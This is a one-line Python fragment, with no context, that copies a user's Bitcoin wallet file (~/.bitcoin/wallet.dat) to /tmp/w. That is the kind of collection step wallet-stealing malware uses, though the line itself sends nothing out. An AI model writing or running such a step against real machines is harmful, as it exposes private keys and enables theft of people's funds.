shutil.copy(home + "/.bitcoin/wallet.dat", "/tmp/w")
